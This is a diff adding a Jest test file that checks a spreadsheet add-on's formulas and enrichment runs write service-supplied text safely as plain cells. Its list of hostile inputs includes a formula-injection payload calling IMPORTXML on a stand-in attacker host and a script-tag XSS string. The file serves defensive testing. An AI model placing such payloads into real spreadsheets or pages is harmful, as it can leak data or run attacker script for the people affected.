@@ -1,0 +1,147 @@
+import { accountPeople } from '../../src/sheet/formula/account-people';
+import { accountSignals } from '../../src/sheet/formula/account-signals';
+import { enrichDomain } from '../../src/sheet/formula/enrich-domain';
+import { icpList } from '../../src/sheet/formula/icp-list';
+import { signalList } from '../../src/sheet/formula/signal-list';
+import { techCompanies } from '../../src/sheet/formula/tech-companies';
+import type { Cell, Platform } from '../../src/sheet/ports';
+import { pump } from '../../src/sheet/runs/pump';
+import { startRun } from '../../src/sheet/runs/start';
+import type { Task } from '../../src/sheet/runs/task';
+import { MemorySheet } from '../support/memory-book';
+import { World } from '../support/memory-platform';
+
+const texts = [
+  '=IMPORTXML("https://evil.example","//a")',
+  '+1-555',
+  '-2+3',
+  '@SUM(A1)',
+  "'=1",
+  '\t=1',
+  '\n=1',
+  '1/2',
+  'TRUE',
+  '=💥',
+  'שלום',
+  '<script>alert(1)</script>',
+  '='.repeat(60_000),
+  `x${'y'.repeat(60_000)}`,
+];
+
+/** Fields whose texts a service chooses freely. */
+const free =
+  /^(name|industry|hq_country|person_name|person_role|title|snippet|novelty|signal_name|narrative_and_key_signals|person_email)$/;
+
+/** A document whose service puts the text wherever it may put one, and what is written into its sheets. */
+function poisoned(text: string): { world: World; written: Cell[] } {
+  const world = World.connected();
+  world.service.icps = [{ id: 1, name: 'ICP' }];
+  world.service.signals = [{ signal_id: 1, signal_name: 'S', signal_type: 'hiring', status: 's' }];
+  world.service.evidence = {
+    narrative_and_key_signals: 'N',
+    hiring: { items: [{ title: 'T', url: 'u', date: '2026-11-01', snippet: 'S' }] },
+  };
+  const send = world.service.send.bind(world.service);
+  world.service.send = (requests) =>
+    send(requests).map((outcome) => {
+      if (outcome.kind !== 'answer') return outcome;
+      const swap = (key: string, value: unknown) =>
+        free.test(key) && typeof value === 'string' ? text : value;
+      return { ...outcome, body: JSON.stringify(JSON.parse(outcome.body, swap)) };
+    });
+  const written: Cell[] = [];
+  jest.spyOn(MemorySheet.prototype, 'write').mockImplementation(function (
+    this: MemorySheet,
+    row,
+    column,
+    values,
+  ) {
+    written.push(...values.flat());
+    values.forEach((line, i) => {
+      line.forEach((value, j) => {
+        const shown = typeof value === 'string' ? value.replace(/^'/, '') : value;
+        this.put(row + i, column + j, shown);
+      });
+    });
+  });
+  return { world, written };
+}
+
+afterEach(() => jest.restoreAllMocks());
+
+/** Whole, or its beginning with an ellipsis that tells. */
+const shows = (cell: Cell | undefined, text: string) =>
+  cell === text ||
+  (text.length > 50_000 &&
+    typeof cell === 'string' &&
+    cell.length > 250 &&
+    cell.endsWith('…') &&
+    text.startsWith(cell.slice(0, -1)));
+const isFormula = (cell: Cell) => typeof cell === 'string' && /^[=+\-@\t\r\n]/.test(cell);
+const isTooLong = (cell: Cell) => typeof cell === 'string' && cell.length > 50_001;
+
+describe.each(texts.map((text) => [JSON.stringify(text).slice(0, 24), text]))('%s', (_, text) => {
+  it.each<[string, (platform: Platform) => Cell[][]]>([
+    ['ENRICH_DOMAIN', (platform) => enrichDomain(platform, 'a.example', 'name', undefined)],
+    ['TECH_COMPANIES', (platform) => techCompanies(platform, 'k8s', undefined, 2)],
+    ['ACCOUNT_PEOPLE', (platform) => accountPeople(platform, 'a.example', undefined, undefined)],
+    ['ACCOUNT_SIGNALS', (platform) => accountSignals(platform, 'a.example', undefined)],
+    ['SIGNAL_LIST', (platform) => signalList(platform, undefined)],
+    ['ICP_LIST', (platform) => icpList(platform)],
+  ])('is shown whole or visibly cut by %s', (_, formula) => {
+    const { world, written } = poisoned(text);
+    world.service.addAccounts(['a.example']);
+    const cells = formula(world.execution()).flat();
+    expect(cells.some((cell) => shows(cell, text))).toBe(true);
+    expect(cells.filter((cell) => String(cell).length > 50_000)).toEqual([]);
+    expect(written.filter(isFormula)).toEqual([]);
+    expect(written.filter(isTooLong)).toEqual([]);
+  });
+
+  it.each<[string, Task, string, Cell]>([
+    ['of companies', { kind: 'enrich-accounts', fields: ['name'] }, 'Company', 'a.example'],
+    ['of contacts', { kind: 'find-contacts', emails: true, phones: false }, 'E-mail', 4],
+    ['of employment', { kind: 'verify-employment' }, 'Works as', 4],
+  ])('lands as text by a run %s', (_, task, header, key) => {
+    const { world, written } = poisoned(text);
+    const sheet = world.book.add('S', [['Key'], [key]]);
+    startRun(world.execution(), {
+      sheetId: sheet.id,
+      headerRow: 1,
+      keyColumn: 1,
+      task,
+      which: 'blanks',
+      cap: 100,
+    });
+    pump(world.execution(), 60_000);
+    expect(shows(sheet.column(header)[0], text)).toBe(true);
+    expect(written.filter(isFormula)).toEqual([]);
+    expect(written.filter(isTooLong)).toEqual([]);
+  });
+
+  it('lands as text in the sheet of people', () => {
+    const { world, written } = poisoned(text);
+    world.service.addAccounts(['a.example']);
+    const sheet = world.book.add('S', [['Domain'], ['a.example']]);
+    startRun(world.execution(), {
+      sheetId: sheet.id,
+      headerRow: 1,
+      keyColumn: 1,
+      task: {
+        kind: 'discover-people',
+        seniorities: ['HEAD'],
+        departments: ['SALES'],
+        locations: [],
+        audience: '',
+        perCompany: 5,
+      },
+      which: 'blanks',
+      cap: 100,
+    });
+    pump(world.execution(), 60_000);
+    const [name, role] = world.book.sheetByName('People')?.read(2, 1, 1, 2)[0] ?? [];
+    expect([shows(name, text), shows(role, text)]).toEqual([true, true]);
+    expect(written.filter(isFormula)).toEqual([]);
+    expect(written.filter(isTooLong)).toEqual([]);
+  });
+});
